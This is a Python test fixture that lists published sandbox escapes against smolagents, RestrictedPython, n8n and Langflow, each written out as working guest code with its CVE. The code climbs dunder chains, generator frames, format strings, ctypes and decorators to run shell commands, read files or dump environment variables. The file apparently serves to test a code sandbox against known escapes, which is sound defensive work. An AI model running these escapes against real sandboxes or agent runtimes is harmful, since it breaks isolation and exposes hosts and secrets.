"""Escapes that were published against other products, each in the words of our API."""

from functools import partial

from tests.hostile.guests.technique import Technique

_of = partial(Technique, family="published escapes")

PUBLISHED = [
    _of(
        name="smolagents-modules-of-modules",
        source="smolagents CVE-2025-5120",
        what="an allowed module keeps a forbidden one as an attribute: `random._os`, `queue.threading`",
        does="runs",
        text="""
        import random
        return random._os.system("touch " + MARK)
        """,
    ),
    _of(
        name="smolagents-queue",
        source="smolagents CVE-2025-5120",
        what="the same two modules further: `statistics.random._os.popen`",
        does="runs",
        text="""
        import statistics
        return statistics.random._os.popen("touch " + MARK).read()
        """,
    ),
    _of(
        name="smolagents-dunder-chain",
        source="smolagents CVE-2025-9959",
        what="dunder methods are called by name, past a check of attributes, until `Popen` is found",
        does="runs",
        text="""
        kind = ().__getattribute__("__class__")
        base = type(kind).__getattribute__(kind, "__base__")
        for one in type(base).__getattribute__(base, "__subclasses__")():
            if one.__name__ == "_wrap_close":
                made = type(one).__getattribute__(one, "__init__")
                return made.__getattribute__("__globals__")["popen"]("touch " + MARK).read()
        raise LookupError("no such class")
        """,
    ),
    _of(
        name="smolagents-code-assignment",
        source="smolagents CVE-2025-9959, its first mend undone (CVE-2026-4963)",
        what="`f.__code__ = ...` by assignment: an attribute that is written is not one that is read",
        does="reads",
        text="""
        def harmless(): return 1
        harmless.__code__ = compile("open(CANARY).read()", "x", "eval")
        return harmless()
        """,
    ),
    _of(
        name="restricted-generator-frame",
        source="RestrictedPython CVE-2023-37271",
        what="a generator that knows itself climbs `gi_frame.f_back` out of the restricted globals",
        does="reads",
        text="""
        def climb():
            yield [made.gi_frame.f_back.f_back, made.gi_frame.f_back]
        made = climb()
        frames = [frame for frame in next(made) if frame is not None]
        for frame in frames:
            known = frame.f_builtins
            if "open" in known: return known["open"](CANARY).read()
        raise LookupError("no such builtin")
        """,
    ),
    _of(
        name="restricted-format",
        source="RestrictedPython CVE-2023-41039",
        what="`format`, `format_map` and `string.Formatter` read attributes that the code may not",
        does="tells",
        text="""
        import string, warnings
        field, _ = string.Formatter().get_field("0.__init__.__globals__[sys]", [warnings.catch_warnings], {})
        return dict(field.modules["os"].environ)
        """,
    ),
    _of(
        name="restricted-attribute-error",
        source="RestrictedPython CVE-2024-47532",
        what="`AttributeError.obj` hands out the object that a format string reached, and `string` has modules",
        does="tells",
        text="""
        import warnings
        try: "{0.__init__.__globals__[sys].modules[os].nothing}".format(warnings.catch_warnings)
        except AttributeError as error: return dict(error.obj.environ)
        """,
    ),
    _of(
        name="restricted-except-star",
        source="RestrictedPython CVE-2025-22153",
        what="`except*` and an exception group whose `split` gives what no group is: a type confusion of CPython",
        text="""
        class Group(ExceptionGroup):
            def split(self, kind): return [object(), object(), object()]
            def derive(self, held): return 5
        try: raise Group("g", [ValueError("x"), TypeError("y")])
        except* ValueError as caught: pass
        return "confused"
        """,
    ),
    _of(
        name="n8n-eval-code",
        source="n8n CVE-2025-68668",
        what="the runtime's own evaluator, called from inside: Pyodide's `eval_code` there, the prelude's `exec` here",
        text="""
        space = agent.__globals__
        made = {"__builtins__": space["__builtins__"], "MARK": MARK, "CANARY": CANARY}
        exec("result = open(CANARY).read()", made)
        return made["result"]
        """,
    ),
    _of(
        name="n8n-ctypes",
        source="n8n CVE-2025-68668",
        what="the same with `ctypes` over the C library of the process",
        does="runs",
        text="""
        import ctypes
        ctypes.CDLL(None)["system"](b"touch " + MARK.encode())
        """,
    ),
    _of(
        name="n8n-format-and-error",
        source="n8n CVE-2026-0863",
        what="a format string that fails on purpose, and `obj` of the error is the function `__import__`",
        does="runs",
        text="""
        try: 1 / 0
        except ZeroDivisionError as first:
            try: "{0.__traceback__.tb_frame.f_builtins[__import__].nothing}".format(first)
            except AttributeError as second:
                return second.obj("os").system("touch " + MARK)
        """,
    ),
    _of(
        name="langflow-decorator",
        source="Langflow CVE-2025-3248",
        what="code in a decorator runs while the text is only looked at",
        does="runs",
        text="""
        @exec("import os; os.system('touch ' + MARK)") or (lambda function: function)
        async def main(): return "decorated"
        """,
    ),
    _of(
        name="langflow-default",
        source="Langflow CVE-2025-3248",
        what="code in a default argument and in an annotation of `main` runs while the text is only looked at",
        does="runs",
        text="""
        async def main(path: exec("import os; os.system('touch ' + MARK)") = __import__("os").system("touch " + MARK)):
            return "defaulted"
        """,
    ),
]
